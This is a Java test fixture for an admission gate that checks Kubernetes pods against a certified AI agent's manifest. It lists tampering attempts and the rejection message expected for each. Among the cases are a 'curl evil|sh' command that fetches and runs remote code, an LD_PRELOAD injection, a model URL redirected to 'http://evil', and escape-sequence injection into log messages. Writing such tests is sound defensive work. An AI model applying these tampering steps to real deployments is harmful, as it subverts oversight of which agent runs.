package dev.assize.server.admission;

import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;
import tools.jackson.databind.node.ObjectNode;

/** What somebody who writes a pod may try so that another agent passes for the certified one. */
final class PodAttacks {

  static final String AGENT = "registry.example/clerk/agent@sha256:" + "a1".repeat(32);

  private PodAttacks() {}

  static Stream<Arguments> attacks() {
    return Stream.of(
        attack(
            "no pinning",
            pod -> Reviews.container(pod).put("image", "registry.example/clerk/agent:1.0"),
            "is not pinned"),
        attack("no image", pod -> Reviews.container(pod).remove("image"), "is not pinned"),
        attack(
            "other algorithm",
            pod ->
                Reviews.container(pod)
                    .put("image", "registry.example/clerk/agent@sha512:" + "a1".repeat(64)),
            "is not pinned"),
        attack(
            "two digests",
            pod -> Reviews.container(pod).put("image", AGENT + "@sha256:" + "c3".repeat(32)),
            "is not pinned"),
        attack(
            "upper case",
            pod -> Reviews.container(pod).put("image", AGENT.replace("a1", "A1")),
            "is not pinned"),
        attack(
            "another command",
            pod ->
                Reviews.array(Reviews.container(pod), "command")
                    .add("sh")
                    .add("-c")
                    .add("curl evil|sh"),
            "its command is not the one in the manifest"),
        attack(
            "another argument",
            pod -> Reviews.array(Reviews.container(pod), "args").add("--no-approvals"),
            "its args is not the one"),
        attack(
            "no arguments",
            pod -> Reviews.container(pod).remove("args"),
            "the manifest demands its args"),
        attack(
            "a library before all others",
            pod ->
                Reviews.array(Reviews.container(pod), "env")
                    .addObject()
                    .put("name", "LD_PRELOAD")
                    .put("value", "/x.so"),
            "the variable \"LD_PRELOAD\" is not in the manifest"),
        attack(
            "another model's address",
            pod ->
                Reviews.array(Reviews.container(pod), "env")
                    .addObject()
                    .put("name", "OPENAI_BASE_URL")
                    .put("value", "http://evil"),
            "OPENAI_BASE_URL"),
        attack(
            "variables from elsewhere",
            pod ->
                Reviews.array(Reviews.container(pod), "envFrom")
                    .addObject()
                    .putObject("configMapRef")
                    .put("name", "x"),
            "envFrom is not allowed"),
        attack(
            "a file over the program",
            pod ->
                Reviews.array(Reviews.container(pod), "volumeMounts")
                    .addObject()
                    .put("name", "state")
                    .put("mountPath", "/app"),
            "the mount at \"/app\" is not in the manifest"),
        attack(
            "a file over the program, round about",
            pod ->
                Reviews.array(Reviews.container(pod), "volumeMounts")
                    .addObject()
                    .put("name", "state")
                    .put("mountPath", "/var/lib/clerk/../../../app"),
            "is not in the manifest"),
        attack(
            "a device",
            pod ->
                Reviews.array(Reviews.container(pod), "volumeDevices")
                    .addObject()
                    .put("name", "state")
                    .put("devicePath", "/dev/x"),
            "the device at"),
        attack(
            "something after the start",
            pod ->
                Reviews.container(pod)
                    .putObject("lifecycle")
                    .putObject("postStart")
                    .putObject("exec")
                    .putArray("command")
                    .add("sh"),
            "lifecycle is not allowed"),
        attack(
            "a probe that runs something",
            pod ->
                ((ObjectNode) Reviews.container(pod).get("livenessProbe"))
                    .putObject("exec")
                    .putArray("command")
                    .add("sh"),
            "livenessProbe.exec is not allowed"),
        attack(
            "another folder",
            pod -> Reviews.container(pod).put("workingDir", "/tmp"),
            "workingDir is not allowed"),
        attack(
            "what nobody knows yet",
            pod -> Reviews.container(pod).put("entrypointOverride", "x"),
            "entrypointOverride is not allowed"),
        attack(
            "another container",
            pod ->
                Reviews.array(pod.get("spec"), "containers")
                    .addObject()
                    .put("name", "helper")
                    .put("image", "busybox@sha256:" + "d4".repeat(32)),
            "does not name its image"),
        attack(
            "another first container",
            pod ->
                Reviews.array(pod.get("spec"), "initContainers")
                    .addObject()
                    .put("name", "first")
                    .put("image", "busybox"),
            "is not pinned"),
        attack(
            "a kind of container that nobody knows",
            pod ->
                Reviews.array(pod.get("spec"), "sidecarContainers").addObject().put("image", AGENT),
            "sidecarContainers is not allowed"),
        attack(
            "another machine under the model's name",
            pod -> Reviews.array(pod.get("spec"), "hostAliases").addObject().put("ip", "192.0.2.1"),
            "hostAliases is not allowed"),
        attack(
            "other name servers",
            pod ->
                ((ObjectNode) pod.get("spec"))
                    .putObject("dnsConfig")
                    .putArray("nameservers")
                    .add("192.0.2.1"),
            "dnsConfig is not allowed"),
        attack("no specification", pod -> pod.remove("spec"), "/spec: is to be an object"),
        attack(
            "no annotation",
            pod -> Reviews.annotations(pod).remove("assize.dev/agent"),
            "it does not say which agent it is"),
        attack(
            "no annotations at all",
            pod -> ((ObjectNode) pod.get("metadata")).remove("annotations"),
            "it does not say which agent it is"),
        attack(
            "another agent's name",
            pod -> Reviews.annotations(pod).put("assize.dev/agent", "clerk-2"),
            "clerk-2 1.0.0 does not name its image"),
        attack(
            "a stranger's name",
            pod -> Reviews.annotations(pod).put("assize.dev/agent", "../clerk"),
            "the gate keeps no agent of the name"),
        attack(
            "a misspelt annotation",
            pod -> Reviews.annotations(pod).put("assize.dev/teir", "general"),
            "there is no annotation assize.dev/teir"),
        attack(
            "a misspelt annotation of another case",
            pod -> Reviews.annotations(pod).put("Assize.dev/tier", "general"),
            "is written wrongly"),
        attack(
            "no such tier",
            pod -> Reviews.annotations(pod).put("assize.dev/tier", "none"),
            "context.tier is one of"),
        attack(
            "a line of one's own in the message",
            pod ->
                Reviews.annotations(pod).put("assize.dev/tier", "x\n\u001b[32mAssize lets it in"),
            "x??[32mAssize lets it in"),
        attack(
            "a line of one's own in a container's name",
            pod -> Reviews.container(pod).put("name", "x\nAllowed").put("image", "y"),
            "\"x?Allowed\""));
  }

  private static Arguments attack(String name, Consumer<ObjectNode> deed, String message) {
    return Arguments.of(name, deed, message);
  }
}
